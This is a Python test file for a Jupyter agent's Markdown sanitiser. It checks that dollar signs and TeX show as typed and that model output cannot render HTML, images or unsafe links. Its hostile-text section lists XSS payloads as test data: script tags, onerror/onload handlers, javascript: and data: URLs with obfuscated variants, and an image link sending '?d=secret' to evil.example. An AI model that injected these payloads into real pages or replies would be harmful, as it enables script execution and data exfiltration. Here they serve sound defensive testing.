"""Markdown that JupyterLab shows as typed (jupyter_agent/text.py).

JupyterLab's pipeline is modelled here in its two math steps, so that properties can be
checked on many texts (the browser test checks the real thing on a few):

- ``removeMath`` (``@jupyterlab/rendermime``) scans the *source* for math openers:
  ``$``, ``$$``, ``\\\\(``, ``\\\\[`` and ``\\begin{``, where ``\\$`` is an escaped dollar;
- MathJax then scans the *rendered text* outside code: ``\\\\`` and ``\\$`` are escapes
  (shown as ``\\`` and ``$``), ``$``, ``\\(``, ``\\[``, ``\\begin{`` and ``\\ref{`` start maths.

The Markdown step in between is ``markdown-it-py`` (CommonMark), as in the module.
"""

from __future__ import annotations

import html
import re

from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from jupyter_agent import text as markdown
from jupyter_agent.text import (
    excerpt,
    inert_markdown,
    literal,
    plain_text,
    safe_url,
    summary_html,
)

_MD = MarkdownIt("commonmark").enable("table")
#: removeMath's tokenizer (JupyterLab 4, packages/rendermime/src/latex.ts)
_MATHSPLIT = re.compile(r"(\$\$?|\\(?:begin|end)\{[a-z]*\*?\}|\\[{}$]|[{}]|(?:\n\s*)+|@@\d+@@|"
                        r"\\\\(?:\(|\)|\[|\]))", re.IGNORECASE)
_MATHJAX = re.compile(r"\\\\|\\\$|\$|\\\(|\\\[|\\(?:begin|end|ref|eqref)\s*\{")


def _without_code_spans(source: str) -> str:
    """The source without code blocks and spans (where removeMath and MathJax do not act)."""
    lines = source.split("\n")
    for token in _MD.parse(source):
        if token.type in ("fence", "code_block") and token.map:
            for i in range(*token.map):
                lines[i] = ""
    # a code span: a backtick run, then the next run of exactly the same length
    # (an escaped backtick opens nothing; a span becomes a space, joining nothing)
    return re.sub(r"(?<![`\\])(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)", " ", "\n".join(lines))


def math_openers(source: str) -> list[str]:
    """What removeMath would treat as the start of maths in ``source`` (outside code)."""
    blocks = _MATHSPLIT.split(_without_code_spans(source))
    return [b for b in blocks[1::2] if b in ("$", "$$", "\\\\(", "\\\\[")
            or b.lower().startswith("\\begin")]


def rendered_text(source: str) -> str:
    """The text of the rendered HTML outside ``<code>``/``<pre>``, entities decoded."""
    body = re.sub(r"<pre>[\s\S]*?</pre>|<code>[\s\S]*?</code>", "", _MD.render(source))
    return html.unescape(re.sub(r"<[^>]+>", "", body))


def mathjax_shows(text: str) -> str:
    """What MathJax makes of rendered ``text``; fails if it would typeset anything."""
    def escape(match: re.Match[str]) -> str:
        token = match.group(0)
        assert token in ("\\\\", "\\$"), f"MathJax would typeset maths at {token!r} in {text!r}"
        return token[1]

    return _MATHJAX.sub(escape, text)


def test_dollars_show_as_typed_and_markdown_still_renders() -> None:
    reply = ("The two plans cost $5 and $10 a month (the second is $$ more).\n\n"
             "| plan | price |\n|---|---|\n| basic | $5 |\n| pro | $10 |\n\n"
             "- first $1\n- second $2\n\n```python\nprint('$5', '$10')\n```\n\n"
             "Use `df['$col']` and **bold $3**.")
    source = inert_markdown(reply)
    assert math_openers(source) == []
    assert mathjax_shows(rendered_text(source)) == rendered_text(reply)
    rendered = _MD.render(source)
    assert "<table>" in rendered and "<li>first " in rendered and "<strong>bold " in rendered
    assert "<code class=\"language-python\">print('$5', '$10')" in rendered  # code untouched
    assert "<code>df['$col']</code>" in rendered
    assert "<" not in source.replace("<", "", 0) or "<" not in reply  # no HTML added


def as_typed(reply: str) -> str:
    """``reply`` with each backslash before ``(``, ``)``, ``[``, ``]`` shown: the page keeps
    maths delimiters as typed, where CommonMark would drop the backslash."""
    return re.sub(r"(?<!\\)((?:\\\\)*)\\([()\[\]])", r"\1\\\\\\\2", reply)


def test_tex_triggers_show_as_typed() -> None:
    for reply in ["the formula \\(x^2\\) and \\[y\\]", "literal \\\\(x\\\\) here",
                  "\\begin{align} a \\end{align}", "see \\ref{eq1}", "C:\\Users\\me",
                  "escaped \\$5 and \\\\$6", "entity &#36;5 and &dollar;6 and &#92;(",
                  "[a link](http://example.com/$1) costs $2", "@@0@@ and $ alone"]:
        source = inert_markdown(reply)
        assert math_openers(source) == [], reply
        assert mathjax_shows(rendered_text(source)) == rendered_text(as_typed(reply)), reply
    assert mathjax_shows(rendered_text(inert_markdown("so \\(x\\) and \\[y\\]"))) \
        == "so \\(x\\) and \\[y\\]\n"


def test_streaming_halves_are_safe_too() -> None:
    reply = "Costs: `$5` and $6\n\n```python\nx = '$7'\n"  # an unclosed fence while streaming
    source = inert_markdown(reply)
    assert math_openers(source) == [] and "x = '$7'" in source


_ALPHABET = st.sampled_from([*"$\\()[]{}`*_|#-+1.a &;x\n", "begin{", "ref{", "```", "&#36;",
                             "  ", "\n\n"])


@settings(max_examples=400, deadline=None)
@given(st.lists(_ALPHABET, max_size=40).map("".join))
@example("$```\n\n```$```")  # backticks that open no code span must not hide a $
def test_no_text_ever_becomes_maths(reply: str) -> None:
    source = inert_markdown(reply)
    assert math_openers(source) == []
    assert mathjax_shows(rendered_text(source)) == rendered_text(as_typed(reply))


@settings(max_examples=300, deadline=None)
@given(st.lists(_ALPHABET, max_size=30).map("".join))
def test_literal_shows_every_character(text: str) -> None:
    source = literal(text)
    assert math_openers(source) == []
    shown = mathjax_shows(rendered_text(source))
    expected = text.strip()
    assert " ".join(shown.replace("\u00a0", " ").split()) == " ".join(expected.split())


def test_literal_keeps_code_spans_when_asked() -> None:
    text = 'allow it with `%config AgentMagics.approve = "auto"` ($0 extra)'
    source = literal(text, code_spans=True)
    assert '<code>%config AgentMagics.approve = &quot;auto&quot;</code>' in _MD.render(source)
    assert mathjax_shows(rendered_text(source)).rstrip().endswith("($0 extra)")


def test_plain_text_and_excerpt_drop_markdown_marks() -> None:
    text = "**42** penguins, `df.head()`:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx = 1\n```"
    assert plain_text(text) == "42 penguins, df.head():\na · b\n1 · 2\nx = 1"
    assert excerpt(text, 20) == "42 penguins, df.hea…"


def test_summary_html_renders_markdown_and_escapes_html() -> None:
    rendered = summary_html("Goal: **x**\nDone: <b>y</b>\n\n```\ncode\n```")
    assert "<strong>x</strong><br />" in rendered and "&lt;b&gt;y&lt;/b&gt;" in rendered
    assert "<pre><code>code\n</code></pre>" in rendered


# --------------------------------------------------------------------------- hostile text
#: A renderer that runs raw HTML and accepts every link, as a trusted JupyterLab output does.
_TRUSTING = MarkdownIt("commonmark", {"html": True}).enable("table")
_TRUSTING.validateLink = lambda url: True  # type: ignore[method-assign]

HOSTILE = [
    "<script>window.pwned = 1</script>",
    "hi <img src=x onerror=\"window.pwned=1\"> there",
    "<style>body { display: none }</style>",
    "<div>\n<iframe src=\"https://evil.example/\"></iframe>\n</div>",
    "<!-- a comment --> and <a href=\"javascript:alert(1)\">x</a>",
    "```\n<b>code</b>\n```\n<svg onload=alert(1)>",
    "| a | b |\n|---|---|\n| `x|<img src=x onerror=alert(1)>` | y |",
]


def _rendered(source: str) -> tuple[str, list[str]]:
    """The HTML a trusting renderer makes of ``source``, and the kinds of token it saw."""
    kinds = []
    for token in _TRUSTING.parse(source):
        kinds.append(token.type)
        kinds += [child.type for child in token.children or []]
    return _TRUSTING.render(source), kinds


def test_raw_html_from_the_model_shows_as_typed() -> None:
    for reply in HOSTILE:
        for source in (inert_markdown(reply), inert_markdown(reply, maths=False)):
            page, kinds = _rendered(source)
            assert not {"html_block", "html_inline", "image"} & set(kinds), (reply, source)
            assert "<script" not in page and "<img" not in page and "<style" not in page
            assert "<iframe" not in page and "<svg" not in page and "<a href=\"java" not in page
    shown = rendered_text(inert_markdown("hi <img src=x onerror=\"window.pwned=1\"> there"))
    assert shown == "hi <img src=x onerror=\"window.pwned=1\"> there\n"  # as typed
    code = _TRUSTING.render(inert_markdown("use `<b>` and\n\n```html\n<b>x</b>\n```"))
    assert "<code>&lt;b&gt;</code>" in code and "&lt;b&gt;x&lt;/b&gt;" in code  # code as is


def test_images_become_links_that_load_nothing() -> None:
    page, kinds = _rendered(inert_markdown("see ![chart](https://evil.example/?d=secret) "
                                           "and ![](https://evil.example/a.png)"))
    assert "image" not in kinds and "<img" not in page
    assert '<a href="https://evil.example/?d=secret">image: chart</a>' in page
    assert '<a href="https://evil.example/a.png">image: </a>' in page
    page, kinds = _rendered(inert_markdown("![x][r]\n\n[r]: https://evil.example/r.png"))
    assert "image" not in kinds and '<a href="https://evil.example/r.png">image: x</a>' in page


def test_links_keep_only_safe_schemes() -> None:
    page, _ = _rendered(inert_markdown(
        "[a](https://example.com) [b](mailto:me@example.com) [c](notes/x.md) <https://e.com>"))
    for href in ("https://example.com", "mailto:me@example.com", "notes/x.md", "https://e.com"):
        assert f'href="{href}"' in page
    for reply in ["[x](javascript:alert(1))", "[x](JavaScript:alert(1))", "[x]( <javascript:a>)",
                  "[x](&#106;avascript:alert(1))", "[x](java&#9;script:alert(1))",
                  "[x](javascript\\:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
                  "<javascript:alert(1)>", "[x][r]\n\n[r]: javascript:alert(1)",
                  "[x][r]\n\n[r]:\n  vbscript:msgbox", "[x](file:///etc/passwd 'x')",
                  "[x](javascript:alert(1)\n'title')"]:
        page, kinds = _rendered(inert_markdown(reply))
        assert "link_open" not in kinds, (reply, page)
    assert not safe_url("&#x6A;avascript:x") and not safe_url(" \tjavascript:x")
    assert safe_url("https://x") and safe_url("#anchor") and safe_url("a/b:c")


_HOSTILE_ALPHABET = st.sampled_from([
    *"<>![]()`|:\\\n $&", "<img src=x onerror=f()>", "<script>", "javascript:", "https://e/",
    "&#106;", "    ", "- ", "> ", "```", "\n\n", "a", "[r]: ", "*", "<a@b.c>", "<b>"])


@settings(max_examples=400, deadline=None)
@given(st.lists(_HOSTILE_ALPHABET, max_size=40).map("".join))
@example("[a](`b) <img src=x onerror=f()> `")
@example("| a |\n|---|\n| `x|<b>` |")
@example("`\n<!--`")  # an HTML block may start inside what looks like a code span
def test_no_text_ever_renders_html_images_or_unsafe_links(reply: str) -> None:
    for maths in (True, False):  # the scanner itself, not only the literal fallback
        assert markdown._inert(markdown._markdown(reply, maths)), reply


def test_exports_keep_maths_as_written() -> None:
    assert inert_markdown("costs $5 and \\(x\\) <b>", maths=False) == "costs $5 and \\(x\\) \\<b>"


def test_summary_html_shows_no_html_image_or_unsafe_link() -> None:
    rendered = summary_html("<img src=x onerror=alert(1)> <script>x</script>\n"
                            "![chart](https://evil.example/?d=1) [j](javascript:alert(1)) "
                            "[ok](https://example.com)")
    assert "<img" not in rendered and "<script" not in rendered
    assert "&lt;img src=x onerror=alert(1)&gt;" in rendered
    assert ('<a href="https://evil.example/?d=1" target="_blank" rel="noopener noreferrer">'
            'image: chart</a>') in rendered
    assert 'href="javascript' not in rendered and "[j](javascript:alert(1))" in rendered
    assert '<a href="https://example.com" target="_blank" rel="noopener noreferrer">ok</a>' \
        in rendered
    assert summary_html("so \\(x\\) and \\[y\\], `\\(c\\)`") == \
        "<p>so \\(x\\) and \\[y\\], <code>\\(c\\)</code></p>\n"  # delimiters as typed
